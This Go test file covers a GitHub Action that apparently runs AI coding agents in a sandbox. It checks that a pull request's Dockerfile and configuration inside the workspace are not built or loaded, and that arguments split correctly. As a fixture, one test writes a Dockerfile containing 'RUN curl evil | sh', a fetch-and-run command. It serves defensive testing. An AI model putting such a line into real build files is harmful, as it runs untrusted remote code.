package outpost_test

import (
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/outpost-dev/outpost/internal/actionrun"
	"github.com/outpost-dev/outpost/internal/testenv"
)

// actionRunner is an emulated Linux runner for the action at the repository
// root, running only the steps named, with fakes (a directory put first on
// PATH) standing in for outpost and docker.
func actionRunner(t *testing.T, fakes string, with map[string]string, only ...string) actionrun.Runner {
	t.Helper()
	if runtime.GOOS != "linux" {
		t.Skip("the emulated runner is Linux")
	}
	if _, err := exec.LookPath("bash"); err != nil {
		t.Skip("no bash")
	}
	root := t.TempDir()
	ws := filepath.Join(root, "workspace")
	for _, d := range []string{ws, filepath.Join(root, "temp"), filepath.Join(root, "tools")} {
		require.NoError(t, os.MkdirAll(d, 0o755))
	}
	here, err := os.Getwd()
	require.NoError(t, err)
	return actionrun.Runner{ActionPath: here, With: with,
		Env:       map[string]string{"PATH": fakes + ":" + os.Getenv("PATH"), "HOME": root},
		Workspace: ws, Temp: filepath.Join(root, "temp"), ToolCache: filepath.Join(root, "tools"),
		OS: "Linux", Arch: "X64", Token: "ghs_fake-token-for-tests",
		Github: map[string]string{"repository": "acme/widgets"}, Only: only}
}

func loadAction(t *testing.T) *actionrun.Action {
	t.Helper()
	a, err := actionrun.Load("action.yml")
	require.NoError(t, err)
	return a
}

func writeFakes(t *testing.T, scripts map[string]string) string {
	t.Helper()
	dir := t.TempDir()
	for name, s := range scripts {
		require.NoError(t, os.WriteFile(filepath.Join(dir, name), []byte(s), 0o755))
	}
	return dir
}

// TestActionImageRefusesWorkingDirectoryInWorkspace: the image step builds
// the sandbox image from working-directory's .outpost/Dockerfile, so a
// working-directory inside the workspace (the pull request's checkout) must
// be refused there, before anything is built from it — not only later by
// the run step, after the pull request's Dockerfile was built and tagged
// outpost/base:dev (which a self-hosted runner then keeps and reuses).
func TestActionImageRefusesWorkingDirectoryInWorkspace(t *testing.T) {
	calls := filepath.Join(t.TempDir(), "calls")
	fakes := writeFakes(t, map[string]string{
		"docker":  "#!/bin/sh\necho \"docker $*\" >> \"$CALLS\"\nexit 1\n",
		"outpost": "#!/bin/sh\necho \"outpost $*\" >> \"$CALLS\"\n",
	})
	for _, wd := range []string{"inside", ".", "abs"} {
		t.Run(wd, func(t *testing.T) {
			require.NoError(t, os.WriteFile(calls, nil, 0o644))
			r := actionRunner(t, fakes, map[string]string{"agent": "claude"}, "image")
			r.Env["CALLS"] = calls
			for _, d := range []string{r.Workspace, filepath.Join(r.Workspace, "inside")} {
				require.NoError(t, os.MkdirAll(filepath.Join(d, ".outpost"), 0o755))
				require.NoError(t, os.WriteFile(filepath.Join(d, ".outpost", "Dockerfile"), []byte("FROM scratch\nRUN curl evil | sh\n"), 0o644))
			}
			switch wd {
			case "abs":
				r.With["working-directory"] = filepath.Join(r.Workspace, "inside")
			default:
				r.With["working-directory"] = wd // relative: to the workspace, where steps run
			}
			res, err := loadAction(t).Run(context.Background(), r)
			require.NoError(t, err)
			b, err := os.ReadFile(calls)
			require.NoError(t, err)
			assert.NotContains(t, string(b), "image build", "built the pull request's Dockerfile")
			assert.Equal(t, "image", res.Failed, "a working-directory inside the workspace is refused")
		})
	}
}

// TestActionImageNeverReadsWorkspaceConfiguration: with no project
// Dockerfile the image step writes Outpost's recipe with outpost init, which
// loads the drivers of the directory it runs in; it must not run in the
// workspace, whose .outpost/ the pull request controls (here a drivers
// directory reached through a link, which makes outpost init fail, so the
// pull request could stop the action).
func TestActionImageNeverReadsWorkspaceConfiguration(t *testing.T) {
	testenv.Short(t) // builds the outpost command
	bin := filepath.Join(t.TempDir(), "outpost")
	build := exec.Command("go", "build", "-o", bin, "./cmd/outpost")
	build.Env = append(os.Environ(), "CGO_ENABLED=0")
	out, err := build.CombinedOutput()
	require.NoError(t, err, string(out))
	calls := filepath.Join(t.TempDir(), "calls")
	require.NoError(t, os.WriteFile(calls, nil, 0o644))
	fakes := writeFakes(t, map[string]string{
		"docker": "#!/bin/sh\necho \"docker $*\" >> \"$CALLS\"\nexit 1\n",
		// outpost init is the real one; image build is recorded.
		"outpost": "#!/bin/sh\nif [ \"$1\" = init ]; then exec \"$REAL_OUTPOST\" \"$@\"; fi\necho \"outpost $*\" >> \"$CALLS\"\n",
	})
	r := actionRunner(t, fakes, map[string]string{"agent": "claude"}, "image")
	r.Env["CALLS"], r.Env["REAL_OUTPOST"] = calls, bin
	require.NoError(t, os.MkdirAll(filepath.Join(r.Workspace, ".outpost"), 0o755))
	require.NoError(t, os.Symlink(t.TempDir(), filepath.Join(r.Workspace, ".outpost", "drivers")))
	res, err := loadAction(t).Run(context.Background(), r)
	require.NoError(t, err)
	assert.Empty(t, res.Failed, "the pull request's .outpost/ stopped the image step")
	b, err := os.ReadFile(calls)
	require.NoError(t, err)
	assert.Contains(t, string(b), "outpost image build --dir "+filepath.Join(r.Temp, "outpost-recipe", ".outpost"))
}

// TestActionArgsSplitOnAllWhiteSpace: the args input is "split on white
// space"; a newline is white space, so flags given on several lines (args:
// | in YAML) all reach outpost — none after the first line is dropped.
func TestActionArgsSplitOnAllWhiteSpace(t *testing.T) {
	record := filepath.Join(t.TempDir(), "record")
	fakes := writeFakes(t, map[string]string{
		"outpost": "#!/bin/sh\nfor a in \"$@\"; do echo \"$a\"; done > \"$RECORD\"\ncat >/dev/null\n",
	})
	r := actionRunner(t, fakes, map[string]string{"agent": "claude", "prompt": "hi", "sandbox": "host",
		"args": "--model m1\n--max-turns 3\t--allow-env  X\n"}, "run")
	r.Env["RECORD"] = record
	res, err := loadAction(t).Run(context.Background(), r)
	require.NoError(t, err)
	require.Empty(t, res.Failed)
	assert.Equal(t, "0", res.Step("run").Outputs["exit-code"])
	b, err := os.ReadFile(record)
	require.NoError(t, err)
	args := strings.Split(strings.TrimSuffix(string(b), "\n"), "\n")
	require.GreaterOrEqual(t, len(args), 7)
	assert.Equal(t, []string{"--model", "m1", "--max-turns", "3", "--allow-env", "X", "-"}, args[len(args)-7:])
}
